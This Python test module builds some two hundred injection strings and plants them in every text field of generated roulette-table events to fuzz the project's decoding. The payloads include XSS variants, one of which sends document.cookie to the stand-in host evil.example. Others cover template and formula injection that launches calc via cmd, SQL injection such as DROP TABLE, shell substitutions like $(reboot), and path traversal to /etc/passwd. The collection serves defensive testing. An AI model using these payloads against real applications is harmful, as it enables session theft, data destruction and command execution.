"""Two hundred texts that try to do something, planted in every text field that an event has."""

import hashlib
import re
import types
import typing
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime
from itertools import cycle, islice
from typing import Any, Literal, Union, get_args, get_origin

from pydantic import AwareDatetime, BaseModel
from pydantic.fields import FieldInfo

from schemas.decode import Undecodable, decode
from schemas.events import EVENTS
from tests.projections.evening import LICENCE, Table

SCRIPTS = ("window.pwned=1", "alert(1)", "document.title='pwned'", "fetch('//evil.example/'+document.cookie)")
SHAPES = (
    "<script>{s}</script>", "</script><script>{s}</script>", '"><script>{s}</script>', "'><script>{s}</script>",
    "<img src=x onerror={s}>", '"><img src=x onerror="{s}">', "' onmouseover='{s}", '" autofocus onfocus="{s}',
    "<svg onload={s}>", "<svg><script>{s}</script></svg>", "<svg><animate onbegin={s} attributeName=x dur=1s>",
    '<a href="javascript:{s}">x</a>', "javascript:{s}", "JaVaScRiPt:{s}", "data:text/html,<script>{s}</script>",
    '<iframe srcdoc="<script>{s}</script>">', "<iframe src=javascript:{s}>", "<body onload={s}>",
    "<details open ontoggle={s}>", "<video><source onerror={s}>", "<math><mtext></table><img src=x onerror={s}>",
    "<style>*{{x:expression({s})}}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{s}'>", "<base href=//evil.example/>",
    "<form action=javascript:{s}><button>x</button></form>", "<input autofocus onfocus={s}>", "<marquee onstart={s}>",
    "</title><script>{s}</script>", "</textarea><script>{s}</script>", "</td></tr></table><script>{s}</script>",
    "--><script>{s}</script>", "<!--<script>{s}</script>-->", "]]><script>{s}</script>",
    "{{{{constructor.constructor('{s}')()}}}}", "${{{s}}}", "{{% raw %}}{s}", "{{{{7*7}}}}", "#{{{s}}}",
    "\\u003cscript\\u003e{s}", "&lt;script&gt;{s}&lt;/script&gt;", "%3Cscript%3E{s}%3C/script%3E",
)  # fmt: skip
OTHERS = (
    "\u202egnp.exe", "\u2066abc\u2069\u202d", "a\u0000b<script>window.pwned=1</script>", "\u200b\u200c\u200d\ufeff", "\r\nSet-Cookie: a=b",
    "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\t=HYPERLINK("//evil.example")',
    "'; DROP TABLE findings; --", "' OR '1'='1", "1) UNION SELECT 1 --", "{x:String}", "%s%n%d", "$(reboot)", "`id`", "../../etc/passwd",
    "\\..\\..\\x", "C:\\", "\u0085\u2028\u2029", "é" * 128, "W" * 128, "\U0001d518" * 60, "\ud83d\ude00" * 10, "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "null", "undefined", "NaN", "true", "[]", "{}", '"', "'", "<", ">", "&", "\\", "/", "?", "#", "%", "%00", "\x7f\x1b[31m",
)  # fmt: skip
ATTACKS: tuple[str, ...] = (
    *(shape.format(s=script) for script in SCRIPTS for shape in SHAPES), *OTHERS,
)  # fmt: skip


def evening() -> list[bytes]:
    """A table for each attack, with every kind of event somewhere among them."""
    kinds = cycle(sorted(kind for kind in EVENTS if kind not in ("table_opened", "table_closed")))
    records: list[bytes] = []
    for number, attack in enumerate(ATTACKS):
        name = attack[:100].encode("utf-8", "ignore").decode() or "x"
        table = Table(f"{name} {number}"[:128])
        licence = {**LICENCE, "venue": name[:128], **({"game": name[:128]} if number % 7 == 3 else {})}
        table.say("table_opened", {"licence": licence})
        table.say("dealer_on", {"staff": name, "role": name})
        coup = f"{name} {number}"[:128]
        table.say("coup_opened", coup=coup)
        bet = {
            "bet": name,
            "player": name,
            "position": name,
            "stake": 500,
            "chips": 5,
            "chip": "colour",
            "colour": name,
        }
        table.say("bet_placed", bet, coup)
        for kind in islice(kinds, 3):
            table.say(kind, filled(EVENTS[kind], attack), coup)
        table.say(
            "ball_launched",
            {"ball": name, "dealer": name, "direction": "left_to_right", "rotor": "left_to_right"},
            coup,
        )
        table.say("no_more_bets_called", {"phrase": attack}, coup)
        table.say("bet_placed", bet | {"bet": f"{name[:100]}2"}, coup)
        table.say("ball_settled", {"pocket": 99}, coup)
        table.say("result_called", {"number": 98, "colour": name}, coup)
        table.say("payout_made", {"bet": name, "player": name, "amount": 99_999}, coup)
        table.say("coup_closed", coup=coup)
        records += table.records
        records.append(attack.encode("utf-8", "replace"))  # no event at all
    return records


def readable(records: list[bytes]) -> Iterator[Any]:
    """Those that are events."""
    for raw in records:
        try:
            yield decode(raw)
        except Undecodable:
            continue


def filled(model: type[BaseModel], attack: str) -> dict[str, Any]:
    """Data of an event with the attack in every text."""
    return {name: _value(field.annotation, field, attack) for name, field in model.model_fields.items()}


def _value(kind: Any, field: FieldInfo | None, attack: str) -> Any:
    origin = get_origin(kind)
    if origin is typing.Annotated:
        inner = FieldInfo.from_annotation(kind)
        return _value(inner.annotation, inner, attack)
    if origin in (Union, types.UnionType):
        return _value(next(one for one in get_args(kind) if one is not type(None)), field, attack)
    if origin is Literal:
        return get_args(kind)[0]
    if origin is tuple:
        return [_value(get_args(kind)[0], None, attack)]
    if origin is dict:
        return {attack[:100] or "x": _value(get_args(kind)[1], None, attack)}
    if isinstance(kind, type) and issubclass(kind, BaseModel):
        return filled(kind, attack)
    day = datetime(2023, 3, 15, tzinfo=UTC).isoformat()
    plain: dict[Any, Any] = {bool: True, int: 1, datetime: day, AwareDatetime: day}
    if kind in plain:
        return plain[kind]
    return _text(field.metadata if field else (), attack)


def _text(bounds: Iterable[Any], attack: str) -> str:
    """The attack as long as the field takes it; where only some letters are taken, a hash of it in these."""
    bounds = tuple(bounds)
    least, most = (
        next((limit for each in bounds if (limit := getattr(each, name, None)) is not None), usual)
        for name, usual in (("min_length", 1), ("max_length", 128))
    )
    text = (attack or "x")[:most]
    text += "x" * (least - len(text))
    patterns = [pattern for each in bounds if (pattern := getattr(each, "pattern", None)) is not None]
    if all(re.search(pattern, text) for pattern in patterns):
        return text
    digits = hashlib.sha256(attack.encode("utf-8", "surrogatepass")).hexdigest()
    fitting = (digits[:long] for long in range(len(digits), least - 1, -1))
    return next(each for each in fitting if all(re.search(pattern, each) for pattern in patterns))
